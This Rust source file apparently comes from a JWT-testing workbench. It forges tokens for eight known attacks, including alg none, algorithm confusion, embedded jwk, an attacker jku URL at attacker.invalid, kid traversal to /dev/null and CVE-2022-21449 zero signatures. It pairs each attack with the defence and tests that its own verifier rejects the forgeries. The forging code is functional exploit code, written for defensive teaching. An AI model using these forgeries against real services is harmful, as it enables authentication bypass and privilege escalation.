//! Attack forgeries: the tokens an attacker builds from a real one, each with what a vulnerable
//! verifier does with it, why this workbench's verifier rejects it, and the defence.
//!
//! Forging is teaching material: every forged token is checked by [`crate::core::engine::verify`] with
//! the user's own keys, and the tests prove each is rejected.

use serde_json::{Value, json};

use crate::core::engine::keys::{Curve, Key};
use crate::core::engine::sign::{self, KeySpec};
use crate::core::engine::token::{self, JsonObject, Kind, Token, encode_b64url};

/// The `jku` the `jku` attack points at (`.invalid` never resolves, RFC 2606).
pub const ATTACKER_JKU: &str = "https://attacker.invalid/jwks.json";

/// The `kid` of the `kid-traversal` attack: a file every Unix system has, and that is empty.
pub const TRAVERSAL_KID: &str = "../../../../../../dev/null";

/// One attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize)]
pub enum Attack {
    /// `alg: none`, empty signature.
    None,
    /// `alg: nOnE`: defeats blocklists that compare case-sensitively.
    NoneCase,
    /// HS256 keyed with the bytes of the issuer's public key file.
    Confusion,
    /// A fresh EC key embedded in the header as `jwk`, signed with it.
    EmbeddedJwk,
    /// A fresh key published at an attacker's `jku`, signed with it.
    Jku,
    /// `kid` pointing at `/dev/null`, HS256 with an empty secret.
    KidTraversal,
    /// ES256 with r = s = 0 (CVE-2022-21449, "psychic signatures").
    Psychic,
    /// Claims changed, the original signature kept.
    Tamper,
}

impl Attack {
    /// Every attack, in the order menus show them.
    pub const ALL: [Self; 8] = [
        Self::None,
        Self::NoneCase,
        Self::Confusion,
        Self::EmbeddedJwk,
        Self::Jku,
        Self::KidTraversal,
        Self::Psychic,
        Self::Tamper,
    ];

    /// The CLI name (`--attack NAME`).
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::None => "none",
            Self::NoneCase => "none-case",
            Self::Confusion => "confusion",
            Self::EmbeddedJwk => "embedded-jwk",
            Self::Jku => "jku",
            Self::KidTraversal => "kid-traversal",
            Self::Psychic => "psychic",
            Self::Tamper => "tamper",
        }
    }

    /// From the CLI name.
    #[must_use]
    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|a| a.name() == name)
    }

    /// A title for lists.
    #[must_use]
    pub fn title(self) -> &'static str {
        match self {
            Self::None => "alg: none",
            Self::NoneCase => "alg: nOnE (case trick)",
            Self::Confusion => "Algorithm confusion (RS/ES to HS256)",
            Self::EmbeddedJwk => "Embedded jwk header",
            Self::Jku => "Attacker's jku URL",
            Self::KidTraversal => "kid path traversal",
            Self::Psychic => "Psychic signature (CVE-2022-21449)",
            Self::Tamper => "Tampered claims",
        }
    }

    /// True when the attack needs the issuer's public key file (`--key`).
    #[must_use]
    pub fn needs_key(self) -> bool {
        self == Self::Confusion
    }

    /// What the forged token looks like.
    #[must_use]
    pub fn how(self) -> &'static str {
        match self {
            Self::None => {
                "The header says \"alg\": \"none\" and the signature is empty: an unsecured JWS (RFC 7515 §A.5)."
            }
            Self::NoneCase => {
                "Like alg none, spelled \"nOnE\": libraries that block the string \"none\" case-sensitively let it through, then treat it as none."
            }
            Self::Confusion => {
                "The header switches to HS256 and the token is MACed with the issuer's PUBLIC key file, byte for byte, as the HMAC secret. The attacker has that file: it is public."
            }
            Self::EmbeddedJwk => {
                "A fresh EC P-256 key pair is generated; its public half is put in the header as \"jwk\" and the token is signed with its private half."
            }
            Self::Jku => {
                "A fresh key pair is generated; the header's \"jku\" points at the attacker's server, which would publish the public half as a JWKS (shown below)."
            }
            Self::KidTraversal => {
                "\"kid\" becomes ../../../../../../dev/null and the token is MACed with HS256 and an EMPTY secret, the content of /dev/null."
            }
            Self::Psychic => "The header says ES256 and the signature is 64 zero bytes: r = 0 and s = 0.",
            Self::Tamper => "The claims are changed and the original signature is kept, unchanged.",
        }
    }

    /// What a vulnerable verifier does with it.
    #[must_use]
    pub fn vulnerable(self) -> &'static str {
        match self {
            Self::None | Self::NoneCase => {
                "A verifier that takes the algorithm from the token skips the signature check: any claims are accepted (CVE-2015-9235 in node-jsonwebtoken, and many others)."
            }
            Self::Confusion => {
                "A verifier that picks the algorithm from the token and hands 'the key' to whatever algorithm that is computes HMAC with the public key bytes as the secret: the MAC matches and the forgery is accepted (CVE-2016-10555, CVE-2022-29217)."
            }
            Self::EmbeddedJwk => {
                "A verifier that uses the key in the token's own header verifies the signature with the attacker's key: it always matches (CVE-2018-0114 in node-jose)."
            }
            Self::Jku => {
                "A verifier that fetches keys from the token's jku downloads the attacker's JWKS and verifies with the attacker's key: accepted. An allow-list of URLs checked with a prefix match is often bypassed too."
            }
            Self::KidTraversal => {
                "A verifier that reads the key from a file named by kid opens /dev/null, gets an empty key, and the empty-key HMAC matches (a classic of key lookup by path; SQL and command injection work the same way)."
            }
            Self::Psychic => {
                "Java 15-18's ECDSA (CVE-2022-21449) did not reject r = 0, s = 0, and the all-zero signature verified for ANY message and ANY key."
            }
            Self::Tamper => {
                "A service that only decodes the token (jwt.decode without verify, or verification switched off) trusts the changed claims."
            }
        }
    }

    /// Why this workbench rejects it.
    #[must_use]
    pub fn why_rejected(self) -> &'static str {
        match self {
            Self::None | Self::NoneCase => {
                "\"none\" is refused in any letter case before any key is looked at (RFC 8725 §3.1)."
            }
            Self::Confusion => {
                "A key's type decides its algorithms: an RSA, EC or OKP key is never used as an HMAC secret, so no loaded key can verify HS256 (RFC 8725 §2.1)."
            }
            Self::EmbeddedJwk | Self::Jku => {
                "Keys come only from the user's key list; jwk, jku and x5u in a token are reported and ignored (RFC 8725 §3.10)."
            }
            Self::KidTraversal => {
                "kid only selects among loaded keys by equality, never a file; and an empty HMAC secret cannot be loaded."
            }
            Self::Psychic => {
                "ECDSA verification (aws-lc) rejects r or s outside 1..n-1 (FIPS 186-5 §6.4.2), so zeros never verify."
            }
            Self::Tamper => {
                "The signature covers the exact header and payload bytes: change one and it no longer verifies."
            }
        }
    }

    /// The defence, for anyone writing a verifier.
    #[must_use]
    pub fn defence(self) -> &'static str {
        match self {
            Self::None | Self::NoneCase => {
                "Pin the expected algorithms in the verifier's configuration; never read it from the token; reject none in any case."
            }
            Self::Confusion => {
                "Bind each key to one algorithm (the JWK's alg, or configuration) and refuse any other; keep HMAC secrets and public keys in separate types."
            }
            Self::EmbeddedJwk => {
                "Never verify with a key taken from the token; use only keys from your configuration or your issuer's pinned JWKS URL."
            }
            Self::Jku => {
                "Ignore jku/x5u, or compare them to an exact allow-list of your issuer's URLs and fetch only over HTTPS."
            }
            Self::KidTraversal => {
                "Treat kid as an opaque lookup key into an in-memory map; never a path, query or command; reject empty and short secrets."
            }
            Self::Psychic => {
                "Keep crypto libraries patched; test the verifier with known-bad vectors (Wycheproof), including r = s = 0."
            }
            Self::Tamper => "Always verify before reading claims; never use a decode-only call for authorization.",
        }
    }

    /// Where to read more.
    #[must_use]
    pub fn reference(self) -> &'static str {
        match self {
            Self::None | Self::NoneCase | Self::Confusion => "RFC 8725 §2.1, §3.1",
            Self::EmbeddedJwk | Self::Jku => "RFC 8725 §3.10; RFC 7515 §4.1.2-4.1.3",
            Self::KidTraversal => "RFC 8725 §3.10; OWASP JWT Cheat Sheet",
            Self::Psychic => "CVE-2022-21449; FIPS 186-5 §6.4.2",
            Self::Tamper => "RFC 7515 §5.2; RFC 8725 §3.11",
        }
    }
}

/// Why a forgery could not be made.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ForgeError {
    /// The attack needs the issuer's public key file.
    #[error("the {0} attack needs the issuer's public key file: pass --key FILE")]
    NeedsKey(&'static str),
    /// The confusion attack was given something other than a public key file.
    #[error("the confusion attack keys HMAC with a public key's bytes; give the RS/ES/EdDSA issuer's public key ({0})")]
    NotPublicKey(String),
    /// Only a JWS can be forged.
    #[error("only a signed token (JWS) can be forged; this one is encrypted (JWE)")]
    NotJws,
    /// `--set` needs JSON claims.
    #[error("the payload is not a JSON object, so claims cannot be set: {0}")]
    NoClaims(String),
    /// A `--set` argument without `=`.
    #[error("--set {0:?} is not CLAIM=VALUE")]
    BadSet(String),
    /// Key generation or signing failed.
    #[error("{0}")]
    Sign(String),
}

/// Parses `CLAIM=VALUE`: the value as JSON when it is JSON, else as a string.
///
/// # Errors
/// When there is no `=` or the name is empty.
pub fn parse_set(arg: &str) -> Result<(String, Value), ForgeError> {
    let (name, value) = arg.split_once('=').ok_or_else(|| ForgeError::BadSet(arg.to_owned()))?;
    if name.is_empty() {
        return Err(ForgeError::BadSet(arg.to_owned()));
    }
    let value = serde_json::from_str(value).unwrap_or_else(|_| Value::String(value.to_owned()));
    Ok((name.to_owned(), value))
}

/// A forged token and what goes with it.
#[derive(Debug, Clone, PartialEq, serde::Serialize)]
pub struct Forged {
    /// The attack.
    pub attack: Attack,
    /// The compact token.
    pub token: String,
    /// Its header.
    pub header: JsonObject,
    /// Its claims (when the payload is JSON).
    pub claims: Option<JsonObject>,
    /// The JWKS the attacker would serve at `jku` (jku attack only).
    pub attacker_jwks: Option<Value>,
}

/// Forges `attack` from `original`. `public_key_file` is the exact content of the issuer's
/// public key file (confusion); `set` changes claims before signing (`tamper` without `set`
/// sets `"admin": true`).
///
/// # Errors
/// [`ForgeError`] when the token is a JWE, a needed key is missing or claims cannot be set.
pub fn forge(
    original: &Token,
    attack: Attack,
    public_key_file: Option<&[u8]>,
    set: &[(String, Value)],
) -> Result<Forged, ForgeError> {
    forge_with_jku(original, attack, public_key_file, set, ATTACKER_JKU)
}

/// [`forge`] with the `jku` attack pointing at `jku` instead of [`ATTACKER_JKU`]: `probe` serves
/// the attacker's JWKS itself on loopback and needs the token to name that server. Every other
/// attack ignores `jku`.
///
/// # Errors
/// As [`forge`].
pub fn forge_with_jku(
    original: &Token,
    attack: Attack,
    public_key_file: Option<&[u8]>,
    set: &[(String, Value)],
    jku: &str,
) -> Result<Forged, ForgeError> {
    if original.kind != Kind::Jws || original.signatures.is_empty() {
        return Err(ForgeError::NotJws);
    }
    let sig = &original.signatures[0];
    let mut set = set.to_vec();
    if attack == Attack::Tamper && set.is_empty() {
        let already = original.claims().and_then(|c| c.get("admin")) == Some(&Value::Bool(true));
        set.push(if already { ("role".into(), json!("admin")) } else { ("admin".into(), json!(true)) });
    }
    // Without changes the payload is kept byte for byte.
    let (payload_b64, claims) = if set.is_empty() {
        (original.payload_b64().to_owned(), original.claims().cloned())
    } else {
        let mut claims = original
            .claims()
            .cloned()
            .ok_or_else(|| ForgeError::NoClaims(original.payload_note().unwrap_or("no claims").to_owned()))?;
        for (name, value) in set {
            claims.insert(name, value);
        }
        let bytes = serde_json::to_vec(&claims).map_err(|e| ForgeError::Sign(e.to_string()))?;
        (encode_b64url(&bytes), Some(claims))
    };
    let mut header = sig.header.clone();
    let set_alg = |h: &mut JsonObject, alg: &str| {
        if let Some(slot) = h.get_mut("alg") {
            *slot = json!(alg);
        } else {
            let mut with = JsonObject::new();
            with.insert("alg".into(), json!(alg));
            with.extend(std::mem::take(h));
            *h = with;
        }
    };
    let encode_header = |h: &JsonObject| -> Result<String, ForgeError> {
        serde_json::to_vec(h).map(|b| encode_b64url(&b)).map_err(|e| ForgeError::Sign(e.to_string()))
    };
    let mut attacker_jwks = None;
    let token = match attack {
        Attack::None | Attack::NoneCase => {
            set_alg(&mut header, if attack == Attack::None { "none" } else { "nOnE" });
            format!("{}.{payload_b64}.", encode_header(&header)?)
        }
        Attack::Confusion => {
            let secret = public_key_file.ok_or(ForgeError::NeedsKey(attack.name()))?;
            check_public_key_file(secret)?;
            set_alg(&mut header, "HS256");
            hs256(&encode_header(&header)?, &payload_b64, secret)
        }
        Attack::KidTraversal => {
            set_alg(&mut header, "HS256");
            header.insert("kid".into(), json!(TRAVERSAL_KID));
            hs256(&encode_header(&header)?, &payload_b64, b"")
        }
        Attack::EmbeddedJwk | Attack::Jku => {
            let key = sign::generate(KeySpec::Ec(Curve::P256)).map_err(|e| ForgeError::Sign(e.to_string()))?;
            let mut jwk = key.public_jwk();
            set_alg(&mut header, "ES256");
            if attack == Attack::EmbeddedJwk {
                header.remove("kid");
                header.insert("jwk".into(), Value::Object(jwk));
            } else {
                jwk.insert("kid".into(), json!(key.thumbprint));
                jwk.insert("use".into(), json!("sig"));
                jwk.insert("alg".into(), json!("ES256"));
                header.insert("jku".into(), json!(jku));
                header.insert("kid".into(), json!(key.thumbprint));
                attacker_jwks = Some(json!({"keys": [Value::Object(jwk)]}));
            }
            es256(&encode_header(&header)?, &payload_b64, &key)?
        }
        Attack::Psychic => {
            set_alg(&mut header, "ES256");
            format!("{}.{payload_b64}.{}", encode_header(&header)?, encode_b64url(&[0u8; 64]))
        }
        Attack::Tamper => {
            format!("{}.{payload_b64}.{}", sig.protected_b64(), sig.signature_b64)
        }
    };
    Ok(Forged { attack, token, header, claims, attacker_jwks })
}

/// The confusion attack's key must be what a verifier of an RS/ES/EdDSA issuer loads: a public
/// key file. An HMAC secret would simply re-sign the token with the real secret (a valid token,
/// not an attack), and a private key file is not what the victim's verifier holds.
fn check_public_key_file(bytes: &[u8]) -> Result<(), ForgeError> {
    let keys = crate::core::engine::keys::load(bytes, "--key")
        .map_err(|e| ForgeError::NotPublicKey(format!("this file is not a key file the key store reads: {e}")))?;
    if keys.iter().any(|k| matches!(k.material, crate::core::engine::keys::KeyMaterial::Oct { .. })) {
        return Err(ForgeError::NotPublicKey("this file holds an HMAC secret (kty oct)".into()));
    }
    if keys.iter().any(|k| k.private.is_some()) {
        return Err(ForgeError::NotPublicKey(
            "this file holds a private key; give its public half, the file verifiers load".into(),
        ));
    }
    Ok(())
}

fn hs256(header_b64: &str, payload_b64: &str, secret: &[u8]) -> String {
    let input = format!("{header_b64}.{payload_b64}");
    let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret);
    let mac = aws_lc_rs::hmac::sign(&key, input.as_bytes());
    format!("{input}.{}", encode_b64url(mac.as_ref()))
}

fn es256(header_b64: &str, payload_b64: &str, key: &Key) -> Result<String, ForgeError> {
    // The header is already encoded as the attacker wants it; sign those exact bytes.
    let header: JsonObject = token::decode_b64url(header_b64)
        .ok()
        .and_then(|b| serde_json::from_slice(&b).ok())
        .ok_or_else(|| ForgeError::Sign("cannot re-read the forged header".into()))?;
    let payload = token::decode_b64url(payload_b64).map_err(|(_, e)| ForgeError::Sign(e))?;
    sign::sign_payload(&header, &payload, "ES256", key).map_err(|e| ForgeError::Sign(e.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::engine::keys::{self, SecretEncoding};
    use crate::core::engine::verify::{Policy, SignatureVerdict, verify};

    fn asset(name: &str) -> (Vec<u8>, Key) {
        let bytes =
            std::fs::read(std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("assets/keys").join(name)).unwrap();
        let key = keys::load(&bytes, name).unwrap().remove(0);
        (bytes, key)
    }

    fn claims() -> JsonObject {
        json!({"iss": "https://issuer.example", "sub": "alice", "aud": "api", "exp": 2_000_000_000})
            .as_object()
            .unwrap()
            .clone()
    }

    fn original(alg: &str, key: &Key) -> Token {
        let header = json!({"typ": "JWT", "kid": "issuer-key"}).as_object().unwrap().clone();
        token::parse(&sign::sign(&header, &claims(), alg, key).unwrap()).unwrap()
    }

    /// Every attack against tokens of every key family and several algorithms, verified with
    /// exactly the keys the original verifies with: never valid. The confusion attack is given
    /// the issuer's public key file (for an HMAC issuer, some RSA public key: its secret file
    /// is refused).
    #[test]
    fn every_forged_token_is_rejected_with_the_original_keys() {
        let (rsa_pub_file, rsa_pub) = asset("rsa2048-spki.pem");
        let (_, rsa_priv) = asset("rsa2048-pkcs8.pem");
        let (ec_pub_file, ec_pub) = asset("ec-p256-spki.pem");
        let (_, ec_priv) = asset("ec-p256-pkcs8.pem");
        let (p384_pub_file, p384_pub) = asset("ec-p384-spki.pem");
        let (_, p384_priv) = asset("ec-p384-pkcs8.pem");
        let (okp_pub_file, okp_pub) = asset("ed25519-spki.pem");
        let (_, okp_priv) = asset("ed25519-pkcs8.pem");
        let secret = keys::load_secret(&[7u8; 32], SecretEncoding::Raw, "issuer secret").unwrap();
        let secret48 = keys::load_secret(&[9u8; 48], SecretEncoding::Raw, "issuer secret").unwrap();
        let set = [("sub".to_owned(), json!("admin"))];
        for (alg, signer, verifier, file) in [
            ("RS256", &rsa_priv, &rsa_pub, &rsa_pub_file),
            ("PS256", &rsa_priv, &rsa_pub, &rsa_pub_file),
            ("ES256", &ec_priv, &ec_pub, &ec_pub_file),
            ("ES384", &p384_priv, &p384_pub, &p384_pub_file),
            ("EdDSA", &okp_priv, &okp_pub, &okp_pub_file),
            ("HS256", &secret, &secret, &rsa_pub_file),
            ("HS384", &secret48, &secret48, &ec_pub_file),
        ] {
            let t = original(alg, signer);
            let keys = std::slice::from_ref(verifier);
            assert!(verify(&t, keys, &Policy::default(), 1.9e9).valid, "the original verifies");
            for attack in Attack::ALL {
                for changes in [&[][..], &set[..]] {
                    let forged = forge(&t, attack, Some(file), changes).unwrap();
                    let parsed = token::parse(&forged.token).unwrap();
                    let v = verify(&parsed, keys, &Policy::default(), 1.9e9);
                    assert!(!v.valid, "{alg} {attack:?} accepted: {}", v.summary());
                    let expected = match attack {
                        Attack::None | Attack::NoneCase => Some(SignatureVerdict::AlgNone),
                        Attack::Tamper => Some(SignatureVerdict::Invalid),
                        Attack::Psychic if alg == "ES256" => Some(SignatureVerdict::Invalid),
                        _ => None,
                    };
                    if let Some(e) = expected {
                        assert_eq!(v.signature, e, "{alg} {attack:?}: {}", v.summary());
                    }
                    if !changes.is_empty() {
                        assert_eq!(parsed.claims().unwrap()["sub"], "admin", "{attack:?}");
                    }
                }
            }
        }
    }

    /// The confusion attack with an HMAC secret file as its key would re-sign an HS token with
    /// its real secret, a token verify accepts: only public key files are taken.
    #[test]
    fn confusion_takes_only_a_public_key_file() {
        let secret_file = b"a-secret-of-the-issuer-32-bytes!";
        let secret = keys::load_secret(secret_file, SecretEncoding::Raw, "issuer secret").unwrap();
        let t = original("HS256", &secret);
        let oct_jwk = br#"{"kty":"oct","k":"YS1zZWNyZXQtb2YtdGhlLWlzc3Vlci0zMi1ieXRlcyE"}"#;
        let (private_pem, _) = asset("rsa2048-pkcs8.pem");
        for (file, why) in
            [(&secret_file[..], "not a key file"), (&oct_jwk[..], "HMAC secret"), (&private_pem[..], "private key")]
        {
            match forge(&t, Attack::Confusion, Some(file), &[]) {
                Err(ForgeError::NotPublicKey(reason)) => assert!(reason.contains(why), "{reason}"),
                other => panic!("{why}: {other:?}"),
            }
        }
        let message = ForgeError::NotPublicKey(String::new()).to_string();
        assert!(message.contains("give the RS/ES/EdDSA issuer's public key"), "{message}");
        for public in ["rsa2048-cert.pem", "ec-p256-spki.der", "ed25519-spki.pem", "sample-jwks.json"] {
            let (file, _) = asset(public);
            assert!(forge(&t, Attack::Confusion, Some(&file), &[]).is_ok(), "{public}");
        }
    }

    /// The forgeries are real: each is accepted by the vulnerable behaviour it targets.
    #[test]
    fn each_forgery_fools_the_verifier_it_was_made_for() {
        let (rsa_pub_file, _) = asset("rsa2048-spki.pem");
        let (_, rsa_priv) = asset("rsa2048-pkcs8.pem");
        let t = original("RS256", &rsa_priv);
        // Confusion: HMAC with the public key file's bytes verifies (the vulnerable verifier's
        // computation); this one refuses the file as a secret and calls the token the forgery.
        let f = forge(&t, Attack::Confusion, Some(&rsa_pub_file), &[]).unwrap();
        let parsed = token::parse(&f.token).unwrap();
        let file_as_mac_key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, &rsa_pub_file);
        let sig = &parsed.signatures[0];
        assert!(aws_lc_rs::hmac::verify(&file_as_mac_key, sig.signing_input(), &sig.signature).is_ok());
        let as_secret = keys::load_secret(&rsa_pub_file, SecretEncoding::Raw, "public key as secret").unwrap();
        let v = verify(&parsed, &[as_secret], &Policy::default(), 1.9e9);
        assert_eq!((v.valid, v.headline()), (false, "FORGERY: algorithm confusion"));
        // Embedded jwk: verifies with the key in its own header.
        let f = forge(&t, Attack::EmbeddedJwk, None, &[]).unwrap();
        let jwk = serde_json::to_vec(&f.header["jwk"]).unwrap();
        let embedded = keys::load(&jwk, "header jwk").unwrap();
        assert!(verify(&token::parse(&f.token).unwrap(), &embedded, &Policy::default(), 1.9e9).valid);
        assert!(!f.header.contains_key("kid"));
        // jku: verifies with the attacker's JWKS; the kid selects it.
        let f = forge(&t, Attack::Jku, None, &[]).unwrap();
        assert_eq!(f.header["jku"], ATTACKER_JKU);
        let jwks = serde_json::to_vec(f.attacker_jwks.as_ref().unwrap()).unwrap();
        let v = verify(
            &token::parse(&f.token).unwrap(),
            &keys::load(&jwks, "attacker").unwrap(),
            &Policy::default(),
            1.9e9,
        );
        assert!(v.valid, "{}", v.summary());
        // kid traversal: the MAC is HMAC-SHA256 with an empty key.
        let f = forge(&t, Attack::KidTraversal, None, &[]).unwrap();
        let parsed = token::parse(&f.token).unwrap();
        assert_eq!(parsed.kid(), Some(TRAVERSAL_KID));
        let empty = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, b"");
        assert!(
            aws_lc_rs::hmac::verify(&empty, parsed.signatures[0].signing_input(), &parsed.signatures[0].signature)
                .is_ok()
        );
        // Psychic: 64 zero bytes.
        let f = forge(&t, Attack::Psychic, None, &[]).unwrap();
        assert_eq!(token::parse(&f.token).unwrap().signatures[0].signature, vec![0u8; 64]);
        // none: empty signature, original payload bytes kept.
        let f = forge(&t, Attack::NoneCase, None, &[]).unwrap();
        assert!(f.token.ends_with('.'));
        assert_eq!(token::parse(&f.token).unwrap().payload_b64(), t.payload_b64());
        assert_eq!(f.header["alg"], "nOnE");
        // Tamper keeps header and signature bytes, changes the payload.
        let f = forge(&t, Attack::Tamper, None, &[]).unwrap();
        let parts: Vec<&str> = f.token.split('.').collect();
        let orig: Vec<&str> = t.text.split('.').collect();
        assert_eq!((parts[0], parts[2]), (orig[0], orig[2]));
        assert_ne!(parts[1], orig[1]);
        assert_eq!(f.claims.unwrap()["admin"], true);
    }

    #[test]
    fn errors_and_set_parsing() {
        let (_, rsa_priv) = asset("rsa2048-pkcs8.pem");
        let t = original("RS256", &rsa_priv);
        assert_eq!(forge(&t, Attack::Confusion, None, &[]).unwrap_err(), ForgeError::NeedsKey("confusion"));
        assert_eq!(parse_set("admin=true").unwrap(), ("admin".into(), json!(true)));
        assert_eq!(parse_set("n=42").unwrap().1, json!(42));
        assert_eq!(parse_set("sub=bob").unwrap().1, json!("bob"));
        assert_eq!(parse_set("roles=[\"a\",\"b\"]").unwrap().1, json!(["a", "b"]));
        assert_eq!(parse_set("eq=a=b").unwrap().1, json!("a=b"));
        assert!(parse_set("novalue").is_err());
        assert!(parse_set("=x").is_err());
        let not_json = token::parse("eyJhbGciOiJIUzI1NiJ9.Zm9v.AA").unwrap();
        assert!(matches!(forge(&not_json, Attack::Tamper, None, &[]), Err(ForgeError::NoClaims(_))));
        let jwe = token::parse(&format!(
            "{}.AAAA.AAAAAAAAAAAAAAAA.AAAAAAAA.AAAAAAAAAAAAAAAAAAAAAA",
            encode_b64url(br#"{"alg":"RSA-OAEP","enc":"A256GCM"}"#)
        ))
        .unwrap();
        assert_eq!(forge(&jwe, Attack::None, None, &[]).unwrap_err(), ForgeError::NotJws);
        for a in Attack::ALL {
            assert_eq!(Attack::from_name(a.name()), Some(a));
        }
    }
}
